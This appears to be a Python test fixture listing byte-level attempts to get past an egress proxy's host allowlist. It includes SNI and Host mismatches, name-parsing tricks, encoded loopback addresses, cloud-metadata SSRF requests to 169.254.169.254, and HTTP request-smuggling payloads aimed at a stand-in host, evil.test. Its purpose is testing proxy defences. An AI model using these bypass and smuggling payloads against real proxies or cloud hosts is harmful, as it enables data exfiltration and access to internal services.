"""Ways around a list of allowed hosts, as bytes: what a client says to the proxy, and afterwards in its tunnel.

Each carries a mark. It got through when a server saw the mark.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from tests.egress import greetings, nets
from tests.egress.place import connect_head

MARK = b"MARKMARKMARK"
API = "api.allowed.test"


@dataclass(frozen=True)
class Attempt:
    """One way. `may` says that it is allowed, and shows that the two configurations mean the same."""

    name: str
    request: bytes
    inside: bytes = b""
    may: bool = False
    zone: dict[str, list[str]] = field(default_factory=dict)


def _marked(hello: bytes) -> bytes:
    return greetings.with_extension(hello, 0x1234, MARK)


def _tunnel(authority: str, inside: bytes = MARK) -> tuple[bytes, bytes]:
    return connect_head(authority), inside


def _get(target: str, host: str, *more: str) -> bytes:
    lines = [f"GET {target} HTTP/1.1", f"Host: {host}", f"X-Mark: {MARK.decode()}", *more]
    return "\r\n".join([*lines, "", ""]).encode()


def _post(*framing: bytes) -> bytes:
    head = b"POST http://plain.allowed.test/ HTTP/1.1\r\nHost: plain.allowed.test\r\nX-Mark: " + MARK + b"\r\n"
    return head + b"".join(framing)


def _to(zone_address: str) -> dict[str, list[str]]:
    return {"db.allowed.test": [zone_address]}


GOOD_HELLO = _marked(greetings.greeting(API))
SMUGGLED = b"0\r\n\r\nGET http://evil.test/" + MARK + b" HTTP/1.1\r\nHost: evil.test\r\n\r\n"

ATTEMPTS = [
    Attempt("TLS to an allowed host", *_tunnel(f"{API}:443", GOOD_HELLO), may=True),
    Attempt("the same in capitals", *_tunnel("API.Allowed.TEST:443", GOOD_HELLO), may=True),
    Attempt(
        "a name below a wildcard",
        *_tunnel("a.wild.allowed.test:443", _marked(greetings.greeting("a.wild.allowed.test"))),
        may=True,
    ),
    Attempt("plain HTTP to an allowed host", _get("http://plain.allowed.test/", "plain.allowed.test"), may=True),
    Attempt("raw TCP to an allowed port", *_tunnel("db.allowed.test:5432"), may=True),
    Attempt("a tunnel to another host", *_tunnel("evil.test:443", _marked(greetings.greeting("evil.test")))),
    Attempt("plain HTTP to another host", _get("http://evil.test/", "evil.test")),
    Attempt("an allowed host on another port", *_tunnel(f"{API}:22")),
    Attempt("an allowed host on port 8443", *_tunnel(f"{API}:8443", GOOD_HELLO)),
    Attempt("an address instead of a name", *_tunnel(f"{nets.EVIL}:443", _marked(greetings.greeting("evil.test")))),
    Attempt("an address with an allowed name in the greeting", *_tunnel(f"{nets.EVIL}:443", GOOD_HELLO)),
    Attempt("an allowed host's own address", *_tunnel(f"{nets.API}:443", GOOD_HELLO)),
    Attempt("another name in the greeting", *_tunnel(f"{API}:443", _marked(greetings.greeting("evil.test")))),
    Attempt(
        "another allowed name in the greeting", *_tunnel(f"{API}:443", _marked(greetings.greeting("pypi.allowed.test")))
    ),
    Attempt("no name in the greeting", *_tunnel(f"{API}:443", _marked(greetings.greeting(None)))),
    Attempt("an address in the greeting", *_tunnel(f"{API}:443", _marked(greetings.named(nets.API.encode())))),
    Attempt(
        "a NUL in the greeting's name", *_tunnel(f"{API}:443", _marked(greetings.named(b"api.allowed.test\0.evil")))
    ),
    Attempt("an encrypted greeting (ECH)", *_tunnel(f"{API}:443", _marked(greetings.encrypted(API)))),
    Attempt("SSH on port 443", *_tunnel(f"{API}:443", b"SSH-2.0-" + MARK + b"\r\n")),
    Attempt("HTTP on port 443", *_tunnel(f"{API}:443", _get("/", API))),
    Attempt("a tunnel to port 80 with another Host", *_tunnel("plain.allowed.test:80", _get("/", "evil.test"))),
    Attempt("raw bytes on port 80", *_tunnel("plain.allowed.test:80")),
    Attempt("Host unlike the URL's host", _get("http://plain.allowed.test/", "evil.test")),
    Attempt("URL unlike the Host header", _get("http://evil.test/", "plain.allowed.test")),
    Attempt("a user in the URL", _get("http://plain.allowed.test@evil.test/", "evil.test")),
    Attempt("a fragment in the URL", _get("http://evil.test#plain.allowed.test/", "plain.allowed.test")),
    Attempt("https:// to be fetched by the proxy", _get(f"https://{API}/", API)),
    Attempt(
        "the top of a wildcard", *_tunnel("wild.allowed.test:443", _marked(greetings.greeting("wild.allowed.test")))
    ),
    Attempt("a name that ends like an allowed one", *_tunnel("evilwild.allowed.test:443", GOOD_HELLO)),
    Attempt("an allowed name in front of another", *_tunnel(f"{API}.evil.test:443", GOOD_HELLO)),
    Attempt("two dots behind the name", *_tunnel(f"{API}..:443", GOOD_HELLO)),
    Attempt("a dot before the name", *_tunnel(f".{API}:443", GOOD_HELLO)),
    Attempt("a NUL in the name", *_tunnel(f"{API}\0.evil.test:443", GOOD_HELLO)),
    Attempt("a percent sign in the name", *_tunnel("api%2eallowed%2etest:443", GOOD_HELLO)),
    Attempt("a comma in the name", *_tunnel(f"{API},evil.test:443", GOOD_HELLO)),
    Attempt("wide dots in the name", *_tunnel("api。allowed。test:443", GOOD_HELLO)),
    Attempt("loopback as 127.1", *_tunnel("127.1:5432")),
    Attempt("loopback as one number", *_tunnel("2130706433:5432")),
    Attempt("loopback in octal", *_tunnel("0177.0.0.1:5432")),
    Attempt("loopback in hexadecimal", *_tunnel("0x7f.1:5432")),
    Attempt("loopback by IPv6", *_tunnel("[::1]:5432")),
    Attempt("loopback by mapped IPv6", *_tunnel("[::ffff:127.0.0.1]:5432")),
    Attempt("an allowed name that leads to loopback", *_tunnel("db.allowed.test:5432"), zone=_to("127.0.0.1")),
    Attempt("an allowed name that leads inside", *_tunnel("db.allowed.test:5432"), zone=_to(nets.INTERNAL)),
    Attempt("an allowed name that leads to metadata", *_tunnel("db.allowed.test:5432"), zone=_to(nets.LINK_LOCAL)),
    Attempt(
        "an allowed name that leads outside and inside",
        *_tunnel("db.allowed.test:5432"),
        zone={"db.allowed.test": [nets.INTERNAL, nets.API]},
    ),
    Attempt("metadata by its address", _get("http://169.254.169.254/", "169.254.169.254")),
    Attempt("metadata by its name", _get("http://metadata.google.internal/", "metadata.google.internal")),
    Attempt("an inner address", *_tunnel(f"{nets.INTERNAL}:5432")),
    Attempt("the proxy's own address", *_tunnel(f"{nets.OWN}:5432")),
    Attempt("length and chunks at once", _post(b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n", SMUGGLED)),
    Attempt("an unknown coding", _post(b"Transfer-Encoding: xchunked\r\n\r\n", SMUGGLED)),
    Attempt("two lengths", _post(b"Content-Length: 4\r\nContent-Length: 9\r\n\r\n", MARK)),
    Attempt("a folded header", _post(b"X: a\r\n Transfer-Encoding: chunked\r\n\r\n")),
    Attempt("a bare line feed", _post(b"X: a\nTransfer-Encoding: chunked\r\n\r\n")),
    Attempt("a space before a colon", _post(b"Transfer-Encoding : chunked\r\n\r\n", SMUGGLED)),
    Attempt(
        "a WebSocket where HTTP is allowed",
        _get("http://plain.allowed.test/", "plain.allowed.test", "Connection: Upgrade", "Upgrade: websocket"),
    ),
]
